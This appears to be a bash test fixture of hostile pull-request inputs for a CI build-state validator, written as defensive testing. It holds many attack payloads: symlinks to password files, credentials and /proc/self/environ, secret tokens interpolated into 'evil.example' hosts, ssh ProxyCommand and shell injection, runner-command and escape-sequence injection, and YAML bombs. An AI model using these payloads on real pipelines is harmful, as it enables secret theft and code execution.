# Pull requests of strangers: `pull NAME CODE`, with the commands that make the repository in the working folder. CODE is
# what --validate ends with. $outside is a folder of the machine's, $port a listening port, $socket a listening socket.
# shellcheck shell=bash disable=SC2016,SC2154

# Links
pull "state file leads to a password file" 65 'ln -s ../outside/shadow state.yaml'
pull "state file leads to docker credentials" 65 'ln -s ../outside/config.json state.yaml'
pull "state file leads to a state file outside" 65 'ln -s ../outside/other.yaml state.yaml'
pull "state file leads out by an absolute link" 65 'ln -s "$outside/shadow" state.yaml'
pull "state file leads out by two links" 65 'ln -s ../outside/shadow b; ln -s b state.yaml'
pull "state file leads to its own process" 65 'ln -s /proc/self/environ state.yaml'
pull "state file leads to a pipe" 65 'mkfifo pipe; ln -s pipe state.yaml'
pull "state file leads to itself" 65 'ln -s state.yaml state.yaml'
pull "states folder leads out" 65 'ln -s ../outside state.yaml'
pull "linked folder with a repository of its own" 65 'mkdir x; ln -s ../outside/checkout state.yaml'
pull "configuration is a link out" 65 'ln -s ../outside/config.toml b.toml; state "ci: {buildkitd-config: b.toml}"'
pull "configuration through a linked folder" 65 'ln -s ../outside etc; state "ci: {buildkitd-config: etc/config.toml}"'
pull "configuration through /proc" 65 'state "ci: {buildkitd-config: /proc/self/root/$outside/config.toml}"'
pull "authority is a link out" 65 'ln -s ../outside/ca.pem ca.pem; state "ci: {buildkitd: {registry: {r.example: {ca: [ca.pem]}}}}"'

# Paths
pull "configuration by an absolute path" 65 'state "ci: {buildkitd-config: $outside/config.toml}"'
pull "a node's configuration by an absolute path" 65 'state "ci: {nodes: {a: {buildkitd-config: $outside/config.toml}}}"'
pull "a node's key pair by absolute paths" 65 'state "ci: {nodes: {a: {buildkitd: {registry: {r.example: {keypair: [{key: $outside/key.pem, cert: $outside/ca.pem}]}}}}}}"'
pull "configuration by dots" 65 'state "ci: {buildkitd-config: ../outside/config.toml}"'
pull "configuration that is no TOML" 65 'state "ci: {buildkitd-config: ../outside/shadow}"'
pull "configuration in the home" 65 'state "ci: {buildkitd-config: ../home/.docker/config.json}"'
pull "configuration in the repository names a key outside" 65 'printf "[registry.\"r.example\"]\n[[registry.\"r.example\".keypair]]\nkey=\"%s/key.pem\"\ncert=\"%s/ca.pem\"\n" "$outside" "$outside" >b.toml; state "ci: {buildkitd-config: b.toml}"'
pull "key pair by absolute paths" 65 'state "ci: {buildkitd: {registry: {r.example: {keypair: [{key: $outside/key.pem, cert: $outside/ca.pem}]}}}}"'
pull "context takes keys from outside" 65 'printf "version: 1\ncontexts: {c: {endpoint: tcp://127.0.0.1:%s, ca: %s/ca.pem, cert: %s/ca.pem, key: %s/key.pem}}\n" "$port" "$outside" "$outside" "$outside" >state.yaml'
pull "context asks whether a file is there" 65 'printf "version: 1\ncontexts: {c: {endpoint: tcp://127.0.0.1:%s, ca: /root/.ssh/c4n4ry-is-not-there}}\n" "$port" >state.yaml' shown
pull "Dockerfile from outside" 65 'state "ci: {verify: {dockerfile: $outside/shadow}}"'
pull "an endless device" 65 'state "ci: {buildkitd-config: /dev/zero}"'

# Variables
pull "token in an image" 65 'state "ci: {driver-opts: {image: \"evil/\${GITHUB_TOKEN}\"}}"'
pull "token in an image, said to be a secret" 65 'state "ci: {driver-opts: {image: !secret \"evil/\${GITHUB_TOKEN}\"}}"'
pull "token in a network" 65 'state "ci: {driver-opts: {network: \"\${AWS_SECRET_ACCESS_KEY}\"}}"'
pull "token in an endpoint's host" 65 'state "ci: {endpoint: \"tcp://\${PGPASSWORD}.evil.example:1\"}"'
pull "token in an endpoint's path" 65 'state "ci: {endpoint: \"tcp://127.0.0.1:$port/\${GITHUB_TOKEN}\"}"'
pull "token in a context's endpoint" 65 'printf "version: 1\ncontexts: {c: {endpoint: \"tcp://127.0.0.1:%s/\${GITHUB_TOKEN}\"}}\n" "$port" >state.yaml'
pull "token in a remote endpoint" 65 'state "ci: {driver: remote, endpoint: \"tcp://127.0.0.1:\${PGPASSWORD}\"}"'
pull "token in a default" 65 'state "ci: {driver-opts: {image: \"\${NONE:-\${GITHUB_TOKEN}}\"}}"'
pull "token in a message" 65 'state "ci: {fallback: \"\${NONE:?see \${GITHUB_TOKEN} \${NPM_AUTHTOKEN}}\"}"'
pull "token in place of a number" 65 'printf "version: \"\${GITHUB_TOKEN}\"\nselected: \"\${PGPASSWORD}\"\nbuilders: {ci: {driver: \"\${GITHUB_TOKEN}\", bootstrap: \"\${PGPASSWORD}\", platforms: [\"\${PGPASSWORD}\"]}}\n" >state.yaml'
pull "token in sizes and durations" 65 'state "ci: {cache: {max-used-space: \"\${PGPASSWORD}\", keep-duration: \"\${GITHUB_TOKEN}\"}, driver-opts: {memory: \"\${AWS_SECRET_ACCESS_KEY}\"}}"'
pull "token in a path" 65 'state "ci: {buildkitd-config: \"/nowhere/\${GITHUB_TOKEN}\"}"'
pull "token in flags" 65 'state "ci: {buildkitd-flags: [\"--debug=\${GITHUB_TOKEN}\"]}"'
pull "token in a mirror" 65 'state "ci: {buildkitd: {registry: {docker.io: {mirrors: [\"\${NPM_AUTHTOKEN}.evil.example\"]}}}}"'
pull "token in a node's mirror" 65 'state "ci: {nodes: {a: {buildkitd: {registry: {docker.io: {mirrors: [\"\${NPM_AUTHTOKEN}.evil.example\"]}}}}}}"'
pull "token of an innocent name" 65 'state "ci: {driver-opts: {image: \"evil/\${BUILD_STAMP}\"}}"'
pull "password within a proxy" 65 'state "ci: {driver-opts: {image: \"\${PROXY}\"}}"'
pull "tokens in the environment of the daemon" any 'state "ci: {driver-opts: {env.A: \"\${GITHUB_TOKEN}\", env.B: \"x \${AZURE_STORAGE_KEY}\", env.C: \"\${PROXY}\", env.D: \"\${BUILD_STAMP}\", env.E: \"\${NPM_AUTHTOKEN}\"}}"'
pull "token through an alias" 65 'printf "version: 1\nbuilders:\n  a: {driver-opts: {env.X: &t \"\${GITHUB_TOKEN}\"}}\n  b: {driver-opts: {image: *t}}\n" >state.yaml'
pull "token through defaults" 65 'printf "version: 1\ndefaults: {driver-opts: {image: \"\${GITHUB_TOKEN}\"}}\nbuilders: {a: {}}\n" >state.yaml'

# Endpoints
pull "endpoint of a stranger's" 0 'state "ci: {endpoint: \"tcp://127.0.0.1:$port\"}"'
pull "socket that others serve" 0 'state "ci: {endpoint: \"unix://$socket\"}"'
pull "remote daemon of a stranger's" 0 'state "ci: {driver: remote, endpoint: \"tcp://127.0.0.1:$port\"}"'
pull "context of a stranger's, made the current one" 0 'printf "version: 1\ncurrent-context: far\ncontexts: {far: {endpoint: tcp://127.0.0.1:%s}}\nbuilders: {ci: {}, on: {endpoint: far}}\n" "$port" >state.yaml'
pull "option of ssh" 65 'state "ci: {driver: remote, endpoint: \"ssh://-oProxyCommand=touch%20$outside/ran\"}"'
pull "shell in ssh" 65 'state "ci: {driver: remote, endpoint: \"ssh://u@h/a\$\$(touch \$outside/ran)\"}"'
pull "option of ssh for an Engine" 65 'state "ci: {endpoint: \"ssh://-oProxyCommand=x\"}"'
pull "ssh to a stranger's host" 0 'state "ci: {endpoint: \"ssh://u@evil.invalid\"}"'

# Names and messages
pull "runner command as a key" 65 'printf "version: 1\n\"##[add-mask]No changes\": 1\n\"::error::x\": 2\n" >state.yaml'
pull "runner command as a value" 65 'printf "version: 1\nbuilders: {ci: {driver: \"##[set-output name=ok]true\"}}\n" >state.yaml'
pull "runner commands in options" 0 'state "r: {driver: remote, bootstrap: false, endpoint: \"tcp://127.0.0.1:$port\", driver-opts: {cacert: \"/##[set-output name=ok]true\", servername: \"##[stop-commands]x\"}}"'
pull "runner command in a message" 65 'state "ci: {fallback: \"\${NONE:?##[group]all is well}\"}"'
pull "runner command as a file's name" 65 'mkdir state.yaml; printf "version: 2\n" >"state.yaml/##[error]x.yaml"'
pull "lines in a value" 65 'printf "version: 1\nbuilders: {ci: {driver: \"a\\n::error::x\\n##[error]y\"}}\n" >state.yaml'
pull "escape sequences and reordering" 65 'printf "version: 1\nbuilders: {ci: {driver: \"\\e[31m\\u202Ex\\x07\"}}\n" >state.yaml'
pull "markdown in options" 0 'state "ci: {driver-opts: {env.A: \"@team GH-1 #1 https://evil.example ![x](https://evil.example/x) <img src=x>\", env.B: \"| a | b |\"}}"'
pull "passwords of its own" 0 'state "ci: {driver-opts: {env.A: \"http://u:c4n4ry@h\"}, buildkitd: {registry: {docker.io: {mirrors: [\"https://user:c4n4ry@mirror.example\", \"https://h/?token=c4n4ry\"]}}}}"'
pull "password in a line that is wrong" 65 'state "ci: {nonsense: \"https://user:c4n4ry@mirror.example\"}"'

# Sizes
pull "more than a state file may have" 65 'head -c 2000000 /dev/zero | tr "\0" a >state.yaml'
pull "deeper than a state file may be" 65 'printf "version: 1\nbuilders: " >state.yaml; head -c 5000 /dev/zero | tr "\0" "[" >>state.yaml'
pull "aliases of aliases" 65 'printf "version: 1\nbuilders:\n  a: &a {platforms: [x,x,x,x,x,x,x,x,x,x]}\n" >state.yaml; for i in 1 2 3 4 5 6; do printf "  b$i: &b$i [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]\n  a: &a *b$i\n"; done >>state.yaml'
pull "variables of variables" 65 'state "ci: {fallback: \"$(head -c 4000 /dev/zero | tr "\0" "x" | sed "s/x/\${A:-/g")\"}"'
pull "a great many problems" 65 'printf "version: 1\nbuilders:\n" >state.yaml; for i in $(seq 3000); do printf "  b$i: {nonsense: ##[x]}\n"; done >>state.yaml'
pull "not a text" 65 'head -c 3000 /dev/urandom >state.yaml; printf "\0" >>state.yaml'

# Controls: what is in the repository is shown, so that the tests above could have failed.
pull "control: its own configuration" 0 'printf "[registry.\"docker.io\"]\nmirrors=[\"sh0wn.example\"]\n" >b.toml; state "ci: {buildkitd-config: b.toml}"' shown
pull "control: a link in the repository" 0 'mkdir in; printf "[registry.\"docker.io\"]\nmirrors=[\"sh0wn.example\"]\n" >in/b.toml; ln -s in/b.toml b.toml; state "ci: {buildkitd-config: b.toml}"; mv state.yaml in/s.yaml; ln -s in/s.yaml state.yaml' shown
pull "control: an innocent variable" any 'state "ci: {driver-opts: {image: \"sh0wn/\${INNOCENT}\"}}"' shown
